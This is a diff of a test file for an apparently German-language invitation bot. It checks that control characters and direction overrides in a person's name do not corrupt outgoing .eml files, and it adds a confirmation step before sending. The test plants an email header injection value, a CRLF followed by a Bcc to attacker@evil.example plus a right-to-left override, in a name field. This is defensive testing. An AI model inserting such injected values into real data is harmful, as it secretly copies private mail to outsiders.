@@ -97,7 +97,8 @@ describe("control characters and direction overrides", () => {
       db.persons.find((p) => p.id === "m-jugendamt")!.name = "Sabine Fuchs\r\nBcc: attacker@evil.example\u202E";
     });
     expect(await say(`/top ${HOSTILE}`, USERS.secretariat)).toContain("Haushalt");
-    expect(await say("/einladen", USERS.secretariat)).toContain("versandt");
+    await say("/einladen", USERS.secretariat);
+    expect(await say("ja", USERS.secretariat)).toContain("versandt");
     const files = bot.outboxFiles().filter((f) => f.endsWith(".eml"));
     expect(files.length).toBeGreaterThan(10);
     for (const f of files) {
